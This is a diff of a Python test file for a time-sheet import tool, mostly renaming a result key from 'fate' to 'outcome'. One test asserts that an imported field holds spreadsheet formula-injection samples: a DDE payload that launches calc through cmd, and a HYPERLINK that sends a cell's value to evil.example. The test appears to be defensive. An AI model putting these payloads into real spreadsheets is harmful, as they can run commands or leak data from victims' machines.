@@ -43,7 +43,7 @@ def contents(host: Host) -> dict[str, list[tuple[Any, ...]]]:
 
 def fates(answer: Any) -> dict[int, str]:
     """Return what becomes of each row."""
-    return {row["row"]: row["fate"] for row in answer["rows"]}
+    return {row["row"]: row["outcome"] for row in answer["rows"]}
 
 
 def noticed(answer: Any) -> dict[str, str]:
@@ -70,7 +70,7 @@ def test_the_form_is_looked_at_row_by_row(year: Run) -> None:
     assert answer["rows"][4]["reasons"] == ["30/02/2025 does not exist."]
     [doubt] = answer["rows"][5]["doubts"]
     assert doubt["answers"] == ["2025-12-05", "2025-05-12"]
-    assert [row["entry"]["minutes"] for row in answer["rows"] if row["fate"] == "new"] == [60, 45, 90]
+    assert [row["entry"]["minutes"] for row in answer["rows"] if row["outcome"] == "new"] == [60, 45, 90]
     formula = answer["rows"][3]["entry"]["private"]
     assert formula.startswith("@SUM(1+1)*cmd|' /C calc'!A0")
     assert '=HYPERLINK("http://evil.example/?x="&A1,"Tom")' in formula
@@ -97,12 +97,12 @@ def test_a_german_table_is_read_as_it_is_meant(year: Run) -> None:
     assert noticed(answer)["encoding"].startswith(expected["encoding"])
     assert noticed(answer)["between cells"].startswith("semicolon")
     assert len(answer["rows"]) == expected["logical_records_after_header"]
-    new = [row["entry"] for row in answer["rows"] if row["fate"] == "new"]
+    new = [row["entry"] for row in answer["rows"] if row["outcome"] == "new"]
     assert [entry["minutes"] for entry in new] == expected["minutes"]
     assert answer["minutes"] == 300
     assert [entry["kind"] for entry in new] == ["one_to_one", "one_to_one", "call", "group"]
     assert [entry["start"] for entry in new] == ["14:00", "16:00", "23:30", None]
-    assert [(row["fate"], row["reasons"][0]) for row in answer["rows"][4:]] == [
+    assert [(row["outcome"], row["reasons"][0]) for row in answer["rows"][4:]] == [
         ("rejected", "31-11-2024 does not exist."),
         ("skipped", "The row is empty."),
         ("skipped", "It is a total: 6,00."),
@@ -115,7 +115,7 @@ def test_a_time_sheet_is_filtered_by_client(year: Run) -> None:
     options = ("--dry-run", "--json", "--others", "1")
     answer = year("import", str(SAMPLES / TOGGL), "--client", "Peer mentoring 24/25", *options).json
     assert fates(answer) == {1: "new", 2: "new", 3: "same", 4: "skipped", 5: "new", 6: "skipped"}
-    new = [row["entry"]["minutes"] for row in answer["rows"] if row["fate"] == "new"]
+    new = [row["entry"]["minutes"] for row in answer["rows"] if row["outcome"] == "new"]
     assert new == [round(minutes) for minutes in EXPECTED[TOGGL]["minutes"]]
     assert "It took no time." in answer["rows"][4]["reasons"]
     all_of_it = year("import", str(SAMPLES / TOGGL), *options).json
@@ -402,7 +402,7 @@ def test_cells_out_of_line_and_odd_rows_are_rejected_one_by_one(year: Run, tmp_p
         "1h",
     )
     decided = year("import", path, "--dry-run", "--json", *answers).json
-    assert [decided["rows"][place]["fate"] for place in (5, 6, 7)] == ["new"] * 3
+    assert [decided["rows"][place]["outcome"] for place in (5, 6, 7)] == ["new"] * 3
     assert decided["rows"][7]["entry"]["minutes"] == 60
     wrong = year("import", path, "--dry-run", "--answer", "6:colour=red")
     assert wrong.code == 2
